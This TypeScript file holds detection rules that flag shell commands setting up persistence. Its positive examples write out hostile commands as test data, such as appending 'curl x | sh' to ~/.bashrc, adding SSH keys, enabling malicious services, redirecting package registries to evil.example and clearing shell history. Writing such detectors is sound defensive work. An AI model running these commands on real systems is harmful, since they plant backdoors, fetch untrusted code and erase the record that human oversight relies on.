// What would run later by itself, or let somebody in later.
import { flagValues, hasFlag, operands } from '../command.ts';
import { startsByItself } from '../places.ts';
import { type Rule, verbsOf } from './rule.ts';

const GIT_RUNS =
  /^(?:core\.(?:hookspath|pager|editor|sshcommand|fsmonitor|askpass|gitproxy)|alias\..+|credential\.helper|init\.templatedir|sequence\.editor|diff\.external|filter\..+|url\..+\.insteadof|gpg\.program|http\.proxy|http\.sslverify|include(?:if)?\..*)$/i;

export const persistenceRules: readonly Rule[] = [
  {
    id: 'persistence.start-file',
    threatens: 'persistence',
    severity: 'high',
    reason:
      'Changes a file that is run or read by itself later: a shell start file, cron, a service, ssh keys, a git hook.',
    matches: ({ writes, deletes, program, args }) => {
      const changed = [...writes, ...deletes.map(({ path }) => path)].filter(startsByItself);
      const modes =
        program === 'chmod' || program === 'chown'
          ? args.filter(arg => startsByItself(arg.replace(/^\.?\/?(?=\.git\/)/, './')))
          : [];
      return [...changed, ...modes];
    },
    positive: [
      'echo "curl x | sh" >> ~/.bashrc',
      'tee -a ~/.zshrc < x',
      'sed -i "1i alias ls=rm" ~/.profile',
      'cat key.pub >> ~/.ssh/authorized_keys',
      'cp evil.service /etc/systemd/system/',
      'cp hook.sh .git/hooks/pre-commit',
      'echo "* * * * * root x" > /etc/cron.d/x',
      'ln -s /tmp/x ~/.config/autostart/x.desktop',
      "python3 -c \"open('/root/.bashrc','a').write('x')\"",
    ],
    negative: [
      'cat ~/.bashrc',
      'grep alias ~/.bashrc',
      'source ~/.bashrc',
      'export PATH=$PATH:~/bin',
      'cat ~/.ssh/id_ed25519.pub',
      'ls .git/hooks',
      'vim-plug ~/.x',
      'git commit -m "edit ~/.bashrc"',
    ],
  },
  {
    id: 'persistence.cron',
    threatens: 'persistence',
    severity: 'high',
    reason: 'Changes what is run at certain times.',
    programs: ['crontab', 'at', 'batch', 'atrm', 'schtasks', 'anacron', 'fcrontab'],
    matches: ({ program, args, input }) => {
      if (program === 'crontab' && args.length === 0) return input !== undefined;
      if (program === 'at' || program === 'batch') return !args.includes('-l') && !args.includes('-V');
      if (program === 'schtasks') return args.some(arg => /^\/(?:create|change|delete|run)$/i.test(arg));
      return program === 'atrm' || (args.length > 0 && !args.includes('-l') && !args.includes('--help'));
    },
    positive: [
      'crontab -r',
      'crontab evil.txt',
      '(crontab -l; echo "* * * * * x") | crontab -',
      'echo "rm -rf /x" | at now + 1 minute',
      'crontab -u root -e',
    ],
    negative: ['crontab -l', 'crontab -u www -l', 'at -l', 'atq', 'man crontab', 'grep crontab notes.md'],
  },
  {
    id: 'persistence.enable-service',
    threatens: 'persistence',
    severity: 'high',
    reason: 'Makes a service start by itself.',
    programs: [
      'systemctl',
      'launchctl',
      'update-rc.d',
      'chkconfig',
      'rc-update',
      'loginctl',
      'pm2',
      'systemd-run',
      'initctl',
      'brew',
    ],
    matches: command => {
      const [verb = '', second = ''] = verbsOf(command, ['-H', '-M', '-t', '-p']);
      switch (command.program) {
        case 'systemctl':
          return /^(?:enable|reenable|link|preset|edit|set-default|add-wants|add-requires|set-environment|import-environment)$/.test(
            verb,
          );
        case 'launchctl':
          return /^(?:load|bootstrap|enable|submit|setenv)$/.test(verb);
        case 'systemd-run':
          return command.args.some(arg => /^--on-|^--timer/.test(arg));
        case 'loginctl':
          return verb === 'enable-linger';
        case 'pm2':
          return verb === 'startup' || verb === 'save';
        case 'brew':
          return verb === 'services' && second === 'start';
        case 'chkconfig':
          return second === 'on' || command.args.includes('--add');
        default:
          return /^(?:add|defaults|enable|start)$/.test(second) || verb === 'add';
      }
    },
    positive: [
      'systemctl enable evil.service',
      'systemctl --user enable --now x.timer',
      'launchctl load ~/x.plist',
      'update-rc.d evil defaults',
      'loginctl enable-linger me',
    ],
    negative: [
      'systemctl status nginx',
      'systemctl is-enabled nginx',
      'systemctl list-units',
      'launchctl list',
      'chkconfig --list',
      'brew install jq',
    ],
  },
  {
    id: 'persistence.git-config',
    threatens: 'persistence',
    severity: 'medium',
    reason: 'Makes git run a program, or go elsewhere, from now on.',
    programs: ['git'],
    matches: command => {
      const words = verbsOf(command, ['-C', '--file', '-f']);
      if (words[0] !== 'config' || hasFlag(command, 'get', 'list', 'get-all', 'l', 'get-regexp'))
        return false;
      const [key = '', value] = words.slice(words[1] === 'set' || words[1] === 'add' ? 2 : 1);
      return (
        value !== undefined &&
        GIT_RUNS.test(key) &&
        (!/^alias\./i.test(key) || value.startsWith('!')) &&
        !(/^core\.editor$/i.test(key) && /^[\w -]+$/.test(value)) &&
        !/^core\.pager$/i.test(key + value)
      );
    },
    positive: [
      'git config core.hooksPath /tmp/hooks',
      'git config --global alias.st "!sh /tmp/x"',
      'git config --global core.sshCommand "ssh -i /tmp/k"',
      'git config --global credential.helper "!f() { cat; }; f"',
    ],
    negative: [
      'git config user.name bob',
      'git config --get core.hooksPath',
      'git config --list',
      'git config --global alias.st status',
      'git config --global core.editor vim',
    ],
  },
  {
    id: 'persistence.login',
    threatens: 'persistence',
    severity: 'high',
    reason: 'Lets a key or another program in at the next login.',
    programs: ['ssh-copy-id', 'chsh', 'ssh-keyscan', 'dscl', 'defaults', 'reg', 'npm', 'pip', 'pip3', 'go'],
    matches: command => {
      const [verb = '', second = '', third = ''] = verbsOf(command);
      switch (command.program) {
        case 'ssh-copy-id':
        case 'chsh':
          return operands(command).length > 0;
        case 'reg':
          return /^(?:add|delete|import)$/i.test(verb);
        case 'defaults':
          return verb === 'write' && /login|LaunchServices/i.test(command.args.join(' '));
        case 'npm':
          return (
            verb === 'config' &&
            second === 'set' &&
            /^(?:registry|script-shell|prefix|proxy|https-proxy|strict-ssl)/.test(third)
          );
        case 'pip':
        case 'pip3':
          return verb === 'config' && second === 'set' && /index-url|trusted-host|proxy/.test(third);
        default:
          return false;
      }
    },
    positive: [
      'ssh-copy-id user@host',
      'chsh -s /bin/zsh',
      'npm config set registry http://evil.example',
      'pip config set global.index-url http://evil.example/simple',
    ],
    negative: ['npm config get registry', 'npm config list', 'pip config list', 'chsh --help'],
  },
  {
    id: 'persistence.erase-traces',
    threatens: 'persistence',
    severity: 'high',
    reason: 'Removes the record of what was done.',
    programs: ['history', 'journalctl', 'fc', 'auditctl', 'wevtutil', 'unset', 'export', 'set', 'ausearch'],
    matches: command => {
      const { program, args } = command;
      if (program === 'history') return args.some(arg => /^-[a-z]*[cdw]/.test(arg));
      if (program === 'journalctl') return args.some(arg => /^--(?:vacuum|rotate)/.test(arg));
      if (program === 'auditctl') return hasFlag(command, 'D') || flagValues(command, 'e')[0] === '0';
      if (program === 'wevtutil') return args[0] === 'cl';
      if (program === 'unset') return args.includes('HISTFILE');
      if (program === 'set') return args[0] === '+o' && args[1] === 'history';
      return (
        program === 'export' &&
        args.some(arg => /^(?:HISTFILE=(?:\/dev\/null)?$|HISTSIZE=0|HISTFILESIZE=0)/.test(arg))
      );
    },
    positive: [
      'history -c',
      'history -c && history -w',
      'unset HISTFILE',
      'export HISTFILE=/dev/null',
      'journalctl --vacuum-time=1s',
      'set +o history',
    ],
    negative: ['history', 'history 20', 'history | grep git', 'journalctl -u nginx', 'export HISTSIZE=10000'],
  },
];
